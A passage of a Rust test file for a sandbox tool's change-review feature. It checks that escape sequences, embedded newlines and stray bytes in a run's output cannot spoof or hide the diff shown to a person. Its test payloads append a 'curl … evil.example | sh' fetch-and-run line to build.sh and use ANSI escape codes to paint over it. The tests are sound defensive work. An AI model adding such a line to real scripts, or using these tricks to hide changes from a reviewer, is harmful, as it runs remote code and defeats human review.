        assert_ok(&out, "the sparse run");
        assert!(text(&out.stdout).contains("made"), "{who:?}");
        let stderr = text(&out.stderr);
        assert!(
            stderr.contains("more than its layer's limit of 1048576 bytes when read"),
            "{who:?}: {stderr}"
        );
        let runs = review.state.path().join("runs");
        let kept: u64 = walk_size(&runs);
        assert!(kept <= 2 << 20, "{who:?}: {kept} bytes left in the store");
        assert!(review.read("a.bin").is_none());
    }
}

/// Bytes of the regular files below `dir` (0 when it does not exist).
fn walk_size(dir: &std::path::Path) -> u64 {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return 0;
    };
    entries
        .filter_map(Result::ok)
        .map(|e| {
            let meta = std::fs::symlink_metadata(e.path()).unwrap();
            if meta.is_dir() {
                walk_size(&e.path())
            } else {
                meta.len()
            }
        })
        .sum()
}

/// A run's file names, link targets and file contents are the payload's:
/// written raw, ESC sequences move the cursor and paint a harmless diff over
/// the one `sandbox apply` writes, and a newline in a name prints a fake
/// headline. What a person reads shows every such byte escaped.
#[test]
fn a_payloads_names_and_contents_cannot_steer_the_terminal() {
    for who in review_identities("a_payloads_names_and_contents_cannot_steer_the_terminal") {
        let review = Review::new(who);
        review.project.write("build.sh", "make\n");
        let (out, id) = review.run(
            &[],
            r#"printf 'make\ncurl -s http://evil.example/x | sh\n\033[2A\033[G\033[J\033[1m M build.sh\033[0m\n\r\b+echo harmless\n' > build.sh \
              && touch 'README.md (file 0644, 2 bytes, sha256 0000)
M zz' \
              && ln -s "$(printf 'x\033[2Jy')" link"#,
        );
        assert_ok(&out, "run");
        for args in [vec!["changes", id.as_str()], vec!["apply", id.as_str()]] {
            let shown = review.sandbox(&args);
            for (stream, bytes) in [("stdout", &shown.stdout), ("stderr", &shown.stderr)] {
                for control in [0x1b_u8, 0x08, b'\r'] {
                    assert!(
                        !bytes.contains(&control),
                        "{who:?} {args:?} {stream} holds byte {control:#x}: {}",
                        text(bytes)
                    );
                }
                assert!(
                    !text(bytes).lines().any(|line| line.starts_with("M zz")),
                    "{who:?} {args:?} {stream} shows a fake headline: {}",
                    text(bytes)
                );
            }
            if args[0] == "changes" {
                assert_ok(&shown, "changes");
                let shown = text(&shown.stdout);
                assert!(
                    shown.contains("\n+curl -s http://evil.example/x | sh\n"),
                    "{who:?}: the real added line is hidden: {shown}"
                );
                assert!(shown.contains("\\u{1b}[2A"), "{who:?}: {shown}");
            }
        }
    }
}

/// One invalid byte used to make a whole script "binary", hiding what the
/// run appended to it; a script that really is binary is named as one.
#[test]
fn a_stray_byte_cannot_hide_a_scripts_new_lines() {
    for who in review_identities("a_stray_byte_cannot_hide_a_scripts_new_lines") {
        let review = Review::new(who);
        review.project.write("build.sh", "make\n");
        let (out, id) = review.run(
            &[],
            r"printf 'make\n# \377\ncurl -s http://evil.example/x | sh\n' > build.sh \
              && printf '#!/bin/sh\n\000\n' > run.sh && chmod +x run.sh",
        );
        assert_ok(&out, "run");
        let shown = review.sandbox(&["changes", &id]);
        assert_ok(&shown, "changes");
        let shown = text(&shown.stdout);
        assert!(
            shown.contains("\n+# \\x{ff}\n+curl -s http://evil.example/x | sh\n"),
            "{who:?}: the appended line is hidden: {shown}"
        );
        assert!(
            shown.contains("(an executable or script shown as binary: read it before applying)"),
            "{who:?}: {shown}"
        );
    }
}

/// A review run whose supervisor is killed while it captures the changes
/// leaves a start record and no changes: it is listed as incomplete with
/// the command that drops it, `last` passes over it, and `changes` and
/// `apply` of it say what it is instead of failing on a missing file.
#[test]
fn a_run_killed_during_its_capture_is_named_incomplete_with_its_fix() {
    for who in review_identities("a_run_killed_during_its_capture_is_named_incomplete_with_its_fix")
    {
        let review = Review::new(who);
        let (out, kept) = review.run(&[], "echo kept > kept.txt");
        assert_ok(&out, "run");
        let runs = review.state.path().join("runs");
        // The capture copies every written file into the store: thousands
        // make a window in which the run's directory exists without its
        // changes. Killed as soon as the directory appears; a capture that
        // still finished first is discarded and the attack made again.
        let mut killed = None;
        for _ in 0..10 {
            settle(review.project.path());
            let mut running = review
                .command()
                .args(["run", "--review", "--profile", "strict", "--"])
                .args([
                    "/bin/sh",
                    "-c",
                    "mkdir many && cd many && seq 1 20000 | xargs touch",
                ])
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap();
            let mut caught = None;
            while running.try_wait().unwrap().is_none() {
                caught = std::fs::read_dir(&runs)
                    .into_iter()
                    .flatten()
                    .flatten()
                    .map(|e| e.file_name().into_string().unwrap())
                    .find(|id| *id != kept && runs.join(id).join("started.json").exists());
                if caught.is_some() {
                    let _ = running.kill();
                    break;
                }
            }
            running.wait().unwrap();
            let Some(id) = caught else { continue };
            if runs.join(&id).join("changes.json").exists() {
                assert_ok(&review.sandbox(&["discard", &id]), "discard");
                continue;
            }
            killed = Some(id);
            break;
        }
        let killed = killed.expect("a run killed during its capture");
        assert!(runs.join(&killed).join("started.json").exists(), "{who:?}");

        let list = review.sandbox(&["changes", "--list"]);
        assert_ok(&list, "changes --list");
        let list = text(&list.stdout);
        assert!(list.lines().any(|l| l == kept), "{who:?}: {list}");
        assert!(
            list.lines()
                .any(|l| l.starts_with(&format!("{killed} (incomplete"))
                    && l.contains(&format!("`sandbox discard {killed}`"))),
            "{who:?}: {list}"
        );
        let last = review.sandbox(&["changes", "last"]);
        assert_ok(&last, "changes last");
        assert!(
            text(&last.stdout).starts_with(&format!("run {kept}:")),
            "{who:?}"
        );
        for verb in ["changes", "apply"] {
            let shown = review.sandbox(&[verb, &killed]);
            assert!(!shown.status.success(), "{who:?} {verb}");
            let said = text(&shown.stderr);
            assert!(
                said.contains("killed before its changes were captured")
                    && said.contains(&format!("sandbox discard {killed}")),
                "{who:?} {verb}: {said}"
            );
        }
        assert_ok(&review.sandbox(&["discard", &killed]), "discard");
        assert!(!runs.join(&killed).exists(), "{who:?}");
    }
}
